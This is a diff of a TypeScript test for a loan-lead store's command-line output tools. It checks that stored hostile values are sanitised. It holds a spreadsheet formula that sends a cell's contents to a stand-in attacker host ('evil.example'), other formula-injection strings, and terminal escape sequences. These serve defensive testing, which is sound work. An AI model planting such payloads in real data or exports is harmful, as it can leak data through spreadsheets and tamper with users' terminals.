@@ -14,6 +14,7 @@ import { migrateStore, openStore } from '../../engine/store/db';
 import { insertLead } from '../../engine/store/leads';
 import { recordSessionTrace } from '../../engine/store/sessionTraces';
 import { csv, spreadsheetSafe, terminalSafe, textTable } from '../../scripts/cliFormat';
+import { leadRow } from '../support/leadRow';
 
 const ESC = '\u001b';
 const CLEAR = `${ESC}[2J${ESC}[H`;
@@ -74,40 +75,20 @@ describe('npm run leads and npm run traces over hostile stored values', () => {
     const now = new Date().toISOString();
     await insertLead(
       db,
-      {
-        brand: 'ipaydayloans',
+      leadRow({
         idempotency_key: 'hostile-cli-key-000001',
         created_at: now,
-        loan_kind: 'general',
-        amount: 1000,
-        zip: '78701',
-        state: 'tx',
         city: `Austin${CLEAR}`,
-        country: 'US',
-        region: 'TX',
-        currency: 'USD',
-        purpose: '',
-        vehicle: '',
         first_name: '=HYPERLINK("http://evil.example/?"&A2,"x")',
         last_name: LINK,
         email: 'x@example.org',
-        phone: '5125550123',
-        income_source: 'employment',
         pay_frequency: 'weekly',
         sealed: sealText('{"dateOfBirth":"1990-01-01","monthlyIncome":1}', Buffer.from('f'.repeat(64), 'hex')),
-        consent_version: 'tcpa-2026-11',
         consent_text: 't',
-        consent_hash: 'h',
         source: '@SUM(1+1)',
         source2: '-2+3',
         click_id: `gg${ESC}[31mred`,
-        session_uuid: '',
-        privacy_opt_out: 0,
-        ip: '',
-        user_agent: '',
-        host: 'ipaydayloans.com',
-        environment: 'production',
-      },
+      }),
       [],
     );
     await recordSessionTrace(db, {
